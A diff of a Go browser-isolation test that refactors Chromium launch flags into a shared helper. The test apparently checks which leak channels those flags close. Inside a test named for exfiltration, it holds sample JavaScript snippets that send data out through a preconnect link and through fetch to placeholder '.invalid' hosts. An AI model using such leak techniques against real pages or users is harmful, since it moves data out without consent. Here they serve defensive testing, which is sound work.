@@ -20,6 +20,8 @@ import (
 	"github.com/chromedp/chromedp"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+
+	"anomnet/cmd/internal/chromium"
 )
 
 // stranger is a server of somebody else. It takes everything and counts.
@@ -196,8 +198,11 @@ func TestExfiltrationThatNoPolicyStops(t *testing.T) {
 		"preconnect":   `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "//secret-preconnect.invalid"; document.head.append(l)`,
 		"fetch":        `await fetch("http://secret-fetch.invalid/").catch(() => {})`,
 	}
-	station := []chromedp.ExecAllocatorOption{chromedp.Flag("host-resolver-rules", "MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"),
-		chromedp.Flag("webrtc-ip-handling-policy", "disable_non_proxied_udp"), chromedp.Flag("force-webrtc-ip-handling-policy", true)}
+	var station []chromedp.ExecAllocatorOption
+	for _, flag := range chromium.Closed() {
+		name, value, _ := strings.Cut(strings.TrimPrefix(flag, "--"), "=")
+		station = append(station, chromedp.Flag(name, value))
+	}
 	for _, c := range []struct {
 		name   string
 		flags  []chromedp.ExecAllocatorOption
